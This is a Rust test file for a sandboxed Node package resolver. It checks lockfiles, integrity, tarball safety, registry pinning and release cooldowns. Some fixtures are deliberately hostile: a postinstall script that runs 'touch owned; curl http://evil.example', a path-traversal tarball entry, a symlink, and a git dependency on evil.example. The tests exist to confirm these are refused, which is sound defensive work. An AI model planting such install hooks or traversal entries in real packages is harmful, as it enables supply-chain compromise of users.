//! Packages for Node.

use crate::kit::{DAY, World, names};
use crate::stand_in::{Npm, raw_tarball};
use causeway_packages::PackagesConfig;
use causeway_sandbox::{Runtime, RuntimePaths};
use causeway_types::{Clock, Code, Coded, SystemClock};
use serde_json::{Value, json};

const STEP: &str = "import greet from 'greet'; export default () => greet('Ada');";
const ASKS: &str = r#"{ "dependencies": { "greet": "^1.0.0" } }"#;

/// `greet`, which needs `@say/hello`, and `@say/hello`.
fn publish(world: &World) {
    let hello = [("index.js", "module.exports = (name) => `hello ${name}`;")];
    world.registry.publish(&Npm::new("@say/hello", "2.1.0", &hello));
    let greet = [(
        "index.mjs",
        "import hello from '@say/hello'; export default (name) => hello(name) + '!';",
    )];
    world.registry.publish(&Npm {
        manifest: json!({ "main": "index.mjs", "dependencies": { "@say/hello": "^2.0.0" } }),
        ..Npm::new("greet", "1.4.0", &greet)
    });
}

/// A lock for one package, as npm writes it.
fn lock(name: &str, entry: &Value) -> String {
    json!({
        "lockfileVersion": 3,
        "packages": {
            "": { "dependencies": { name: "^1.0.0" } },
            format!("node_modules/{name}"): entry,
        },
    })
    .to_string()
}

#[tokio::test]
async fn packages_are_chosen_by_npm_and_imported_by_a_step() {
    let world = World::new().await;
    publish(&world);
    let packages = world.packages();
    let found = world.resolve_with(&packages, &[("package.json", ASKS)], &[], None).await.unwrap();
    assert_eq!(names(&found), ["@say/hello 2.1.0", "greet 1.4.0"]);
    assert!(found.made.contains_key("package-lock.json"));
    assert_eq!(world.returned(&packages, &found, Runtime::Node, STEP).await, "hello Ada!");

    // A step cannot change what other sandboxes see.
    let code = "import { writeFileSync } from 'node:fs';
        export default () => { writeFileSync('/node_modules/greet/index.mjs', ''); };";
    let report = world.run(&packages, &found, Runtime::Node, code).await;
    assert!(report.outcome.unwrap_err().message.contains("EROFS"));

    // With the lock in the folder, npm is not asked; with everything on the disk, nobody is.
    let text = &found.made["package-lock.json"].text;
    world.registry.asked();
    let again =
        world.resolve(&[("package.json", ASKS), ("package-lock.json", text)]).await.unwrap();
    assert_eq!(again.layers, found.layers);
    assert_eq!(world.registry.asked(), Vec::<String>::new());
}

#[tokio::test]
async fn a_made_lock_holds_until_something_else_is_asked_for() {
    let world = World::new().await;
    publish(&world);
    let packages = world.packages();
    let first = world.resolve(&[("package.json", ASKS)]).await.unwrap();
    world.registry.publish(&Npm::new(
        "greet",
        "1.5.0",
        &[("index.js", "module.exports = () => 'new'")],
    ));
    let same = world.resolve_with(&packages, &[("package.json", ASKS)], &[], Some(&first)).await;
    assert_eq!(same.unwrap(), first);
    let asks = r#"{ "dependencies": { "greet": "^1.4.1" } }"#;
    let other = world.resolve_with(&packages, &[("package.json", asks)], &[], Some(&first)).await;
    assert_eq!(names(&other.unwrap()), ["greet 1.5.0"]);
}

#[tokio::test]
async fn install_scripts_do_not_run_unless_allowed() {
    let world = World::new().await;
    let evil = [("index.js", "module.exports = require('fs').existsSync(__dirname + '/owned')")];
    world.registry.publish(&Npm {
        manifest: json!({ "scripts": { "postinstall": "touch owned; curl http://evil.example" } }),
        ..Npm::new("greet", "1.0.0", &evil)
    });
    let packages = world.packages();
    let found = world.resolve(&[("package.json", ASKS)]).await.unwrap();
    assert!(found.layers[0].packages[0].has_script && found.layers[0].scripts.is_empty());
    let step = "import owned from 'greet'; export default () => owned;";
    assert_eq!(world.returned(&packages, &found, Runtime::Node, step).await, false);
}

#[tokio::test]
async fn an_archive_with_another_digest_is_not_unpacked() {
    let world = World::new().await;
    publish(&world);
    let found = world.resolve(&[("package.json", ASKS)]).await.unwrap();
    // The same version with another content: what a broken-into registry serves.
    let evil = world.registry.publish(&Npm::new("greet", "1.4.0", &[("index.mjs", "evil")]));
    let text = &found.made["package-lock.json"].text;
    let config = PackagesConfig { folder: world.folder.path().join("other"), ..world.config() };
    let files = [("package.json", ASKS), ("package-lock.json", text.as_str())];
    let refused = world.resolve_with(&world.packages_with(config), &files, &[], None).await;
    let refused = refused.unwrap_err();
    assert_eq!(refused.code(), Code::IntegrityMismatch);
    assert!(refused.public().contains("`greet` 1.4.0") && refused.public().contains(&evil));
}

#[tokio::test]
async fn an_archive_that_leads_elsewhere_is_refused() {
    let world = World::new().await;
    let manifest = r#"{"name":"greet","version":"1.0.0"}"#;
    for (kind, path, word) in
        [(b'0', "package/../../../../evil", "leads elsewhere"), (b'2', "package/link", "is a link")]
    {
        let archive = raw_tarball(&[(b'0', "package/package.json", manifest), (kind, path, "")]);
        let package = Npm::new("greet", "1.0.0", &[]);
        let json: Value = manifest.parse().unwrap();
        world.registry.publish_archive(&package, json, archive);
        let refused = world.resolve(&[("package.json", ASKS)]).await.unwrap_err();
        assert_eq!(refused.code(), Code::UnsafePackage);
        assert!(refused.public().contains(word), "{}", refused.public());
    }
    // Neither the layer nor what lies beside it is there.
    let below = |name: &str| {
        std::fs::read_dir(world.folder.path().join("packages").join(name)).unwrap().count()
    };
    assert_eq!((below("layers"), below("new")), (0, 0));
}

#[tokio::test]
async fn a_package_under_the_name_of_another_is_refused() {
    let world = World::new().await;
    let integrity = world.registry.publish(&Npm::new("evil", "1.0.0", &[]));
    let entry = json!({
        "version": "1.0.0", "integrity": integrity,
        "resolved": world.registry.url("npm/evil/-/evil-1.0.0.tgz"),
    });
    world.registry.publish(&Npm::new("greet", "1.0.0", &[]));
    let text = lock("greet", &entry);
    let refused = world.resolve(&[("package.json", ASKS), ("package-lock.json", &text)]).await;
    let refused = refused.unwrap_err();
    assert_eq!(refused.code(), Code::UnsafePackage);
    assert!(refused.public().contains("says that it is `evil`"), "{}", refused.public());
}

#[tokio::test]
async fn a_lock_that_names_another_registry_is_refused() {
    let (world, other) = (World::new().await, crate::stand_in::StandIn::start());
    let integrity = other.publish(&Npm::new("greet", "1.0.0", &[]));
    let entry = json!({
        "version": "1.0.0", "integrity": integrity,
        "resolved": other.url("npm/greet/-/greet-1.0.0.tgz"),
    });
    let text = lock("greet", &entry);
    let refused = world.resolve(&[("package.json", ASKS), ("package-lock.json", &text)]).await;
    let refused = refused.unwrap_err();
    assert_eq!(refused.code(), Code::ForeignRegistry);
    assert!(refused.public().contains("`greet`"), "{}", refused.public());
    assert_eq!(other.asked(), Vec::<String>::new());
}

#[tokio::test]
async fn young_versions_are_not_chosen_and_refused_in_locks() {
    let world = World::new().await;
    publish(&world);
    let now = SystemClock.now();
    let yesterday = now.minus(DAY).to_string();
    let integrity = world.registry.publish(&Npm {
        at: &yesterday,
        ..Npm::new("greet", "1.9.0", &[("index.mjs", "export default () => 'young'")])
    });
    let found = world.resolve(&[("package.json", ASKS)]).await.unwrap();
    assert_eq!(names(&found), ["@say/hello 2.1.0", "greet 1.4.0"]);

    let text = lock("greet", &json!({ "version": "1.9.0", "integrity": integrity }));
    let files = [("package.json", ASKS), ("package-lock.json", text.as_str())];
    let refused = world.resolve(&files).await.unwrap_err();
    assert_eq!(refused.code(), Code::ReleaseTooYoung);
    let public = refused.public();
    assert!(
        public.contains("`greet` 1.9.0")
            && public.contains("24 hours")
            && public.contains("3 days"),
        "{public}"
    );

    for config in [
        PackagesConfig { cooldown_except: vec!["greet".into()], ..world.config() },
        PackagesConfig { cooldown: std::time::Duration::ZERO, ..world.config() },
    ] {
        let packages = world.packages_with(config);
        let found = world.resolve_with(&packages, &files, &[], None).await.unwrap();
        assert_eq!(names(&found), ["greet 1.9.0"]);
    }
}

#[tokio::test]
async fn what_npm_does_not_find_is_said() {
    let world = World::new().await;
    publish(&world);
    for (asks, word) in [
        (r#"{ "dependencies": { "nothing-here": "1.0.0" } }"#, "nothing-here"),
        (r#"{ "dependencies": { "greet": "^9.0.0" } }"#, "greet@^9.0.0"),
    ] {
        let refused = world.resolve(&[("package.json", asks)]).await.unwrap_err();
        assert_eq!(refused.code(), Code::PackagesUnresolved);
        assert!(refused.public().contains(word), "{}", refused.public());
    }
    let asks = r#"{ "dependencies": { "greet": "git+https://evil.example/greet.git" } }"#;
    let refused = world.resolve(&[("package.json", asks)]).await.unwrap_err();
    assert_eq!(refused.code(), Code::InvalidLock);
}

#[tokio::test]
async fn without_npm_a_lock_suffices_and_nothing_else_does() {
    let with = World::new().await;
    publish(&with);
    let found = with.resolve(&[("package.json", ASKS)]).await.unwrap();
    let runtimes = RuntimePaths { npm: "/nonexistent/npm".into(), ..crate::kit::runtimes() };
    let world = World::with_runtimes(runtimes).await;
    publish(&world);
    let refused = world.resolve(&[("package.json", ASKS)]).await.unwrap_err();
    assert_eq!(refused.code(), Code::InstallerUnavailable);
    assert!(refused.public().contains("npm") && refused.public().contains("`causeway doctor`"));
    // As npm writes it where `omit-lockfile-registry-resolved` is set: without addresses.
    let mut lock: Value = found.made["package-lock.json"].text.parse().unwrap();
    for (_, entry) in lock["packages"].as_object_mut().unwrap() {
        entry.as_object_mut().unwrap().remove("resolved");
    }
    let lock = lock.to_string();
    let again =
        world.resolve(&[("package.json", ASKS), ("package-lock.json", &lock)]).await.unwrap();
    assert_eq!(names(&again), names(&found));
}

#[tokio::test]
async fn a_layer_is_made_again_after_it_was_lost_and_deleted_when_nobody_uses_it() {
    let world = World::new().await;
    publish(&world);
    let packages = world.packages();
    let found = world.resolve(&[("package.json", ASKS)]).await.unwrap();
    let (layer, digest) = (&found.layers[0], found.layers[0].digest());
    let used = || [digest.clone()].into();
    let archives: std::collections::HashSet<_> =
        layer.packages.iter().map(|package| package.integrity.clone()).collect();
    // In use, or younger than a day: nothing goes.
    let no_time = std::time::Duration::ZERO;
    assert_eq!(packages.collect(used(), &archives, no_time).await.unwrap(), 0);
    assert_eq!(packages.collect([].into(), &[].into(), DAY).await.unwrap(), 0);
    // The layer goes, and comes back from the archives without the registry.
    assert_eq!(packages.collect([].into(), &archives, no_time).await.unwrap(), 1);
    assert!(!packages.has(&digest));
    world.registry.asked();
    assert_eq!(world.returned(&packages, &found, Runtime::Node, STEP).await, "hello Ada!");
    assert_eq!(world.registry.asked(), Vec::<String>::new());
    // Everything goes; on another node, or after such a loss, the archives are fetched anew.
    assert_eq!(packages.collect([].into(), &[].into(), no_time).await.unwrap(), 5);
    assert_eq!(world.returned(&packages, &found, Runtime::Node, STEP).await, "hello Ada!");
    assert_eq!(world.registry.asked().len(), 2);
}
